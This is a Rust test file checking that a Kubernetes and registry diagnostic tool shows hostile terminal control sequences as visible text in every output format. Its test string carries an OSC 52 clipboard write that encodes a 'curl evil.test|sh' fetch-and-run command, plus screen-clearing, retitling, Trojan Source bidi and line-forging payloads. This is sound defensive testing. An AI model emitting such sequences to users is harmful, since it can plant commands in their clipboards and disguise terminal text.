//! Terminal output is inert: what a registry or a cluster wrote reaches the terminal with its
//! control characters made visible, never acted on.
//!
//! `ESC ] 52 ; c ; …` writes the reader's clipboard (xterm's OSC 52), `ESC [ 2 J` clears the
//! screen, `ESC ] 0 ; …` retitles the window, a C1 `CSI` (U+009B) does what `ESC [` does on
//! terminals that read 8-bit controls, and U+202E reverses the text after it (Trojan Source,
//! CVE-2021-42574). Table, text and Markdown must carry none of them; JSON escapes them itself.

use serde_json::json;

use super::every_way::{assert_inert, every_way};
use super::*;
use crate::scenario::{Scenario, path};
use crate::support::kube_api::KubeApi;

/// Every kind of sequence at once, in one string a hostile party controls.
const HOSTILE_TEXT: &str = "pull denied \u{1b}]52;c;Y3VybCBldmlsLnRlc3R8c2g=\u{7}\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{9b}31mred \u{202e}txt.sh";

#[test]
fn hostile_registry_error_text_is_inert_in_every_format() {
    let h = Hostile::start(TlsMode::Plain, |req| {
        if let Some(a) = basic_gate(req) {
            return a;
        }
        match req.path.as_str() {
            "/v2/" => Action::reply(200, &[], "{}"),
            _ => {
                let body = json!({"errors": [{"code": "DENIED", "message": HOSTILE_TEXT}]});
                Action::reply(
                    403,
                    &[("Content-Type", "application/json")],
                    body.to_string(),
                )
            }
        }
    });
    let args = vec![
        "image".to_string(),
        format!("{}/app:1.0", h.host()),
        "--creds".into(),
        "term-user:term-password".into(),
        "--plain-http".into(),
        h.host(),
    ];
    let ways = every_way(&args, None, &[]);
    for w in &ways {
        assert_eq!(w.code, Some(1), "{}: {}", w.name(), w.stderr);
        // The words stay readable where evidence is drawn: only the controls are replaced.
        if w.format != "markdown" {
            assert!(
                w.stdout.contains("pull denied"),
                "{}:\n{}",
                w.name(),
                w.stdout
            );
        }
    }
    assert_inert(&ways, Some(HOSTILE_TEXT));
}

#[test]
fn hostile_event_messages_are_inert_in_every_format() {
    let api = KubeApi::start();
    let image = "127.0.0.1:5000/app:1";
    // Early in the message: evidence lines keep the start of long event text.
    let message = format!(
        "Failed to pull image \"{image}\": {HOSTILE_TEXT}\nforged line: healthy: 403 Forbidden"
    );
    Scenario::new(image).failed(&message).load(&api);
    let kc = api.kubeconfig();
    let args: Vec<String> = ["pod", "web-0", "-n", "shop", "--no-probe", "--kubeconfig"]
        .iter()
        .map(|s| s.to_string())
        .chain([path(&kc).to_string()])
        .collect();
    let ways = every_way(&args, None, &[]);
    for w in &ways {
        assert_eq!(w.code, Some(1), "{}: {}", w.name(), w.stderr);
        // A newline inside a one-line field cannot forge a line of the report.
        if w.format != "json" {
            assert!(
                !w.stdout
                    .lines()
                    .any(|l| l.trim_start().starts_with("forged line")),
                "{}:\n{}",
                w.name(),
                w.stdout
            );
        }
    }
    assert_inert(&ways, None);
}

#[test]
fn hostile_names_in_an_error_line_are_inert_on_stderr() {
    let dir = tempfile::tempdir().unwrap();
    let snapshot = dir.path().join("snap.json");
    let secret = json!({"apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": format!("regcred{HOSTILE_TEXT}"), "namespace": "shop"},
        "data": "not a map"});
    let pod = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "web-0", "namespace": "shop"},
        "spec": {"containers": [{"name": "app", "image": "127.0.0.1:5000/app:1"}]}});
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [pod, secret]});
    std::fs::write(&snapshot, list.to_string()).unwrap();
    let args: Vec<String> = ["pod", "web-0", "-n", "shop", "--no-probe", "--snapshot"]
        .iter()
        .map(|s| s.to_string())
        .chain([path(&snapshot).to_string()])
        .collect();
    let ways = every_way(&args, None, &[]);
    for w in &ways {
        assert_eq!(w.code, Some(2), "{}: {}", w.name(), w.stderr);
        assert!(w.stderr.contains("regcred"), "{}", w.stderr);
    }
    assert_inert(&ways, None);
}
